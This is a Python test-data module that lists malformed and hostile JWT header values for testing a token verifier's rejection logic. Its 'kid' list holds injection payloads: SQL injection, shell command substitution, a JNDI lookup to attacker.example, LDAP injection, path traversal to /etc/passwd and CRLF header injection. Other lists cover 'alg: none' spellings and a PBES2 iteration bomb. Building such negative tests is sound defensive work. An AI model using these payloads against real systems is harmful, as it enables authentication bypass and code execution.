"""Odd headers, as data: what is changed in the header of a good token. The signature is right each time."""

from __future__ import annotations

from typing import Final

import pytest

from tests.wire.forge import MISSING

ALGORITHMS: Final = [
    pytest.param({"alg": MISSING}, id="alg-missing"),
    pytest.param({"alg": None}, id="alg-null"),
    pytest.param({"alg": ""}, id="alg-empty"),
    pytest.param({"alg": 256}, id="alg-number"),
    pytest.param({"alg": True}, id="alg-bool"),
    pytest.param({"alg": []}, id="alg-empty-list"),
    pytest.param({"alg": ["HS256"]}, id="alg-list"),
    pytest.param({"alg": {"HS256": "HS256"}}, id="alg-object"),
    pytest.param({"alg": "hs256"}, id="alg-lower-case"),
    pytest.param({"alg": "HS256 "}, id="alg-space"),
    pytest.param({"alg": "HS256\0"}, id="alg-nul"),
    pytest.param({"alg": "HS256\n"}, id="alg-newline"),
    pytest.param({"alg": "\uff28\uff33256"}, id="alg-fullwidth"),
    pytest.param({"alg": "HS256,none"}, id="alg-two"),
    pytest.param({"alg": "HS384"}, id="alg-longer-hash"),
    pytest.param({"alg": "HS512"}, id="alg-longest-hash"),
    pytest.param({"alg": "HS1"}, id="alg-sha1"),
    pytest.param({"alg": "RS256"}, id="alg-rsa"),
    pytest.param({"alg": "PS256"}, id="alg-rsa-pss"),
    pytest.param({"alg": "ES256"}, id="alg-ec"),
    pytest.param({"alg": "ES256K"}, id="alg-secp256k1"),
    pytest.param({"alg": "EdDSA"}, id="alg-eddsa"),
    pytest.param({"alg": "Ed25519"}, id="alg-ed25519"),
    pytest.param({"alg": "RSA1_5"}, id="alg-jwe-rsa"),
    pytest.param({"alg": "ECDH-ES", "epk": {"kty": "EC", "crv": "P-256", "x": "AA", "y": "AA"}}, id="alg-jwe-ecdh"),
    pytest.param({"alg": "dir"}, id="alg-jwe-direct"),
    pytest.param({"alg": "PBES2-HS256+A128KW", "p2c": 2**31, "p2s": "c2FsdA"}, id="alg-jwe-password"),
    pytest.param({"alg": "../HS256"}, id="alg-path"),
    pytest.param({"alg": "__class__"}, id="alg-attribute"),
]

UNSIGNED: Final = [
    pytest.param(spelling, id=f"alg-{name}")
    for name, spelling in {
        "none": "none",
        "None": "None",
        "NONE": "NONE",
        "nOnE": "nOnE",
        "none-space": "none ",
        "none-nul": "none\0",
        "none-fullwidth": "\uff4e\uff4f\uff4e\uff45",
        "null": None,
        "empty": "",
        "missing": MISSING,
        "list": ["none"],
        "configured": "HS256",
    }.items()
]
"""``alg`` of a token that nobody signed."""

KEY_NAMES: Final = [
    pytest.param({"kid": "another"}, id="kid-unknown"),
    pytest.param({"kid": ""}, id="kid-empty"),
    pytest.param({"kid": None}, id="kid-null"),
    pytest.param({"kid": 0}, id="kid-number"),
    pytest.param({"kid": 0.5}, id="kid-float"),
    pytest.param({"kid": True}, id="kid-bool"),
    pytest.param({"kid": ["a"]}, id="kid-list"),
    pytest.param({"kid": {"a": "b"}}, id="kid-object"),
    pytest.param({"kid": "k" * 10_000}, id="kid-10kB"),
    pytest.param({"kid": "../../../../dev/null"}, id="kid-path"),
    pytest.param({"kid": "/proc/sys/kernel/randomize_va_space"}, id="kid-file-of-known-content"),
    pytest.param({"kid": "file:///dev/null"}, id="kid-file-url"),
    pytest.param({"kid": "https://attacker.example/key"}, id="kid-url"),
    pytest.param({"kid": "' OR '1'='1"}, id="kid-sql"),
    pytest.param({"kid": "x' UNION SELECT 'secret' --"}, id="kid-sql-union"),
    pytest.param({"kid": "|id"}, id="kid-command"),
    pytest.param({"kid": "$(id)"}, id="kid-command-substitution"),
    pytest.param({"kid": "${jndi:ldap://attacker.example/a}"}, id="kid-lookup"),
    pytest.param({"kid": "*)(uid=*))(|(uid=*"}, id="kid-ldap"),
    pytest.param({"kid": "\0"}, id="kid-nul"),
    pytest.param({"kid": "../../../../etc/passwd\0.pem"}, id="kid-path-with-nul"),
    pytest.param({"kid": "a\r\nSet-Cookie: a=b"}, id="kid-header-injection"),
    pytest.param({"kid": "\u202e"}, id="kid-right-to-left"),
    pytest.param({"kid": "{0.__class__}"}, id="kid-format"),
]

TYPES: Final = [
    pytest.param({"typ": None}, id="typ-null"),
    pytest.param({"typ": ""}, id="typ-empty"),
    pytest.param({"typ": 1}, id="typ-number"),
    pytest.param({"typ": ["JWT"]}, id="typ-list"),
    pytest.param({"typ": {"JWT": 1}}, id="typ-object"),
    pytest.param({"typ": "JWT "}, id="typ-space"),
    pytest.param({"typ": "JWT\0"}, id="typ-nul"),
    pytest.param({"typ": "application/"}, id="typ-half-a-media-type"),
    pytest.param({"typ": "application/application/jwt"}, id="typ-prefix-twice"),
    pytest.param({"typ": "application/jwt; a=b"}, id="typ-parameter"),
    pytest.param({"typ": "text/jwt"}, id="typ-other-media-type"),
    pytest.param({"typ": "JOSE"}, id="typ-jose"),
    pytest.param({"typ": "JOSE+JSON"}, id="typ-jose-json"),
    pytest.param({"typ": "JWE"}, id="typ-jwe"),
    pytest.param({"typ": "id+jwt"}, id="typ-id-token"),
    pytest.param({"typ": "logout+jwt"}, id="typ-logout-token"),
    pytest.param({"typ": "dpop+jwt"}, id="typ-dpop-proof"),
    pytest.param({"typ": "secevent+jwt"}, id="typ-security-event"),
    pytest.param({"typ": "token-introspection+jwt"}, id="typ-introspection"),
    pytest.param({"typ": "activation+jwt"}, id="typ-email-activation"),
]

GOOD_TYPES: Final = [
    pytest.param({"typ": value}, id=f"typ-{name}")
    for name, value in {
        "missing": MISSING,
        "JWT": "JWT",
        "lower-case": "jwt",
        "media-type": "application/jwt",
    }.items()
]

ACCESS_TYPES: Final = [
    pytest.param({"typ": value}, id=f"typ-{name}")
    for name, value in {
        "access-token": "at+jwt",
        "access-token-in-capitals": "AT+JWT",
        "access-token-media-type": "application/at+jwt",
        "access-token-media-type-in-any-case": "Application/AT+jwt",
    }.items()
]
"""``typ`` of an access token, and of nothing else (RFC 9068 section 4)."""

NOT_UNDERSTOOD: Final = [
    pytest.param({"crit": ["exp"], "exp": 1}, id="crit-exp"),
    pytest.param({"crit": ["alg"]}, id="crit-registered-name"),
    pytest.param({"crit": ["x"], "x": 1}, id="crit-unknown"),
    pytest.param({"crit": ["kid", "typ", "jku", "x5u"]}, id="crit-registered-names"),
    pytest.param({"crit": ["x"]}, id="crit-absent-name"),
    pytest.param({"crit": [""], "": 1}, id="crit-empty-name"),
    pytest.param({"crit": ["x", "x"], "x": 1}, id="crit-name-twice"),
    pytest.param({"crit": []}, id="crit-empty"),
    pytest.param({"crit": None}, id="crit-null"),
    pytest.param({"crit": False}, id="crit-false"),
    pytest.param({"crit": "exp"}, id="crit-string"),
    pytest.param({"crit": {"exp": 1}}, id="crit-object"),
    pytest.param({"crit": [1]}, id="crit-numbers"),
    pytest.param({"crit": ["b64"], "b64": False}, id="b64-false-critical"),
    pytest.param({"b64": False}, id="b64-false"),
    pytest.param({"b64": True}, id="b64-true"),
    pytest.param({"b64": None}, id="b64-null"),
    pytest.param({"zip": "DEF"}, id="zip"),
    pytest.param({"zip": None}, id="zip-null"),
    pytest.param({"zip": "GZIP", "enc": "A256GCM", "alg": "dir"}, id="zip-of-a-jwe"),
    pytest.param({"cty": "JWT"}, id="cty-nested"),
    pytest.param({"cty": ""}, id="cty-empty"),
    pytest.param({"enc": "A256GCM"}, id="enc"),
    pytest.param({"alg": "dir", "enc": "A256GCM"}, id="enc-direct"),
]

ODD_HEADERS: Final = [*ALGORITHMS, *KEY_NAMES, *TYPES, *NOT_UNDERSTOOD]
